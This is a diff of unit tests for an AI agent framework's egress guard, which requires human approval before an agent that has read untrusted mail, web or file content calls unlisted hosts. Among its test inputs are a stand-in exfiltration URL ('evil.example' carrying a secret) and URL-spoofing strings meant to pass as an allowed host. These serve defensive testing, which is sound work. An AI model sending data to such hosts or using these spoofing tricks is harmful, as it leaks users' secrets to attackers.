@@ -5,7 +5,13 @@ import unittest
 
 import frappe
 
-from huf.ai.core.egress import Exit, Source, find_outsiders, is_listed, what_leaves
+from huf.ai.core.egress import (
+	OutboundCall,
+	UntrustedSource,
+	find_approval_reason,
+	find_outsiders,
+	is_allowed_host,
+)
 from huf.ai.runs.start import run_agent_sync
 from huf.ai.tools.exits import exit_of
 from huf.tests.drafting import Shop
@@ -13,64 +19,77 @@ from huf.tests.factories import make_agent, make_model, make_tool
 from huf.tests.mail import MailTestCase, outgoing, queued, row, send_all
 from huf.tests.model_server import ModelServer, text, tool_call
 
-MAIL, WEB = {Source.MAIL}, {Source.WEB}
+MAIL, WEB = {UntrustedSource.MAIL}, {UntrustedSource.WEB}
 ELSEWHERE = "https://evil.example/c?d=secret"
 
 
 def get(url, types="GET", base_url=None, **more):
-	return Exit("fetch", types, {"url": url, **more}, base_url)
+	return OutboundCall("fetch", types, {"url": url, **more}, base_url)
 
 
 class TestDecision(unittest.TestCase):
 	def test_a_run_that_has_read_nothing_strange_may_reach_anywhere(self):
-		self.assertIsNone(what_leaves(get(ELSEWHERE), (), ()))
+		self.assertIsNone(find_approval_reason(get(ELSEWHERE), (), ()))
 
 	def test_after_a_mail_only_hosts_of_the_list_and_a_tool_s_own_are_reached(self):
-		self.assertIn("evil.example", what_leaves(get(ELSEWHERE), MAIL, ["api.example"]))
-		self.assertIsNone(what_leaves(get("https://api.example/x"), MAIL, ["api.example"]))
-		self.assertIsNone(what_leaves(get("/orders", base_url="https://shop.example/v1"), MAIL, ()))
-		self.assertIn("evil", what_leaves(get(ELSEWHERE, base_url="https://shop.example"), MAIL, ()))
+		self.assertIn("evil.example", find_approval_reason(get(ELSEWHERE), MAIL, ["api.example"]))
+		self.assertIsNone(find_approval_reason(get("https://api.example/x"), MAIL, ["api.example"]))
+		self.assertIsNone(find_approval_reason(get("/orders", base_url="https://shop.example/v1"), MAIL, ()))
+		self.assertIn("evil", find_approval_reason(get(ELSEWHERE, base_url="https://shop.example"), MAIL, ()))
 
 	def test_names_that_look_like_a_listed_host_are_not_it(self):
 		for host in ("api.example.evil.example", "evilapi.example", "xapi.example", ""):
-			self.assertFalse(is_listed(host, ["api.example", "*.api.example"]), host)
-		self.assertTrue(is_listed("eu.api.example", ["*.api.example"]))
+			self.assertFalse(is_allowed_host(host, ["api.example", "*.api.example"]), host)
+		self.assertTrue(is_allowed_host("eu.api.example", ["*.api.example"]))
 		for url in (
 			"https://api.example@evil.example/",
 			"https://evil.example#api.example",
 			"https://evil.example\\@x/",
 		):
-			self.assertIsNotNone(what_leaves(get(url), MAIL, ["api.example"]), url)
+			self.assertIsNotNone(find_approval_reason(get(url), MAIL, ["api.example"]), url)
 
 	def test_a_link_that_a_page_shows_may_be_followed_as_it_is_and_one_from_a_mail_may_not(self):
 		seen = "See https://news.example/today for more"
 		link = get("https://news.example/today")
-		self.assertIsNone(what_leaves(link, WEB, (), seen))
-		self.assertIsNotNone(what_leaves(link, MAIL, (), seen))
-		self.assertIsNotNone(what_leaves(get("https://news.example/today?d=secret"), WEB, (), seen))
+		self.assertIsNone(find_approval_reason(link, WEB, (), seen))
+		self.assertIsNotNone(find_approval_reason(link, MAIL, (), seen))
+		self.assertIsNotNone(find_approval_reason(get("https://news.example/today?d=secret"), WEB, (), seen))
 		self.assertIsNotNone(
-			what_leaves(get("https://news.example/today", params={"d": "secret"}), WEB, (), seen)
+			find_approval_reason(get("https://news.example/today", params={"d": "secret"}), WEB, (), seen)
 		)
-		self.assertIsNotNone(what_leaves(get("https://news.example/today", types="POST"), WEB, (), seen))
+		self.assertIsNotNone(
+			find_approval_reason(get("https://news.example/today", types="POST"), WEB, (), seen)
+		)
 
 	def test_after_a_file_a_person_is_asked_as_after_a_mail(self):
 		link = get("https://news.example/today")
-		self.assertIn("files", what_leaves(link, {Source.FILE}, (), "See https://news.example/today"))
-		self.assertIn("files and web", what_leaves(link, {Source.FILE, Source.WEB}, (), link.urls[0]))
-		self.assertIsNone(what_leaves(link, {Source.FILE}, ["news.example"]))
+		self.assertIn(
+			"files", find_approval_reason(link, {UntrustedSource.FILE}, (), "See https://news.example/today")
+		)
+		self.assertIn(
+			"files and web",
+			find_approval_reason(link, {UntrustedSource.FILE, UntrustedSource.WEB}, (), link.urls[0]),
+		)
+		self.assertIsNone(find_approval_reason(link, {UntrustedSource.FILE}, ["news.example"]))
 
 	def test_what_says_nothing_of_its_receiver_needs_a_person_and_what_has_a_fixed_one_does_not(self):
-		self.assertIsNotNone(what_leaves(Exit("publish", "Custom Function", {"text": "x"}), MAIL, ()))
-		self.assertIsNone(what_leaves(Exit("web_search", "App Provided", {"query": "x"}), MAIL, ()))
-		self.assertIsNone(what_leaves(Exit("helper", "Run Agent", {"prompt": "x"}), MAIL, ()))
+		self.assertIsNotNone(
+			find_approval_reason(OutboundCall("publish", "Custom Function", {"text": "x"}), MAIL, ())
+		)
+		self.assertIsNone(
+			find_approval_reason(OutboundCall("web_search", "App Provided", {"query": "x"}), MAIL, ())
+		)
+		self.assertIsNone(
+			find_approval_reason(OutboundCall("helper", "Run Agent", {"prompt": "x"}), MAIL, ())
+		)
 
 	def test_a_tool_of_an_app_is_itself_under_another_name_and_no_other_can_pass_for_it(self):
 		def named(types):
 			row = {"tool_name": "look", "types": types, "function_path": "web_search", "base_url": None}
 			return exit_of(frappe._dict(row), {"query": "x"})
 
-		self.assertIsNone(what_leaves(named("App Provided"), MAIL, ()))
-		self.assertIsNotNone(what_leaves(named("Custom Function"), MAIL, ()))
+		self.assertIsNone(find_approval_reason(named("App Provided"), MAIL, ()))
+		self.assertIsNotNone(find_approval_reason(named("Custom Function"), MAIL, ()))
 
 	def test_who_takes_no_part_in_a_thread_is_an_outsider(self):
 		self.assertEqual(
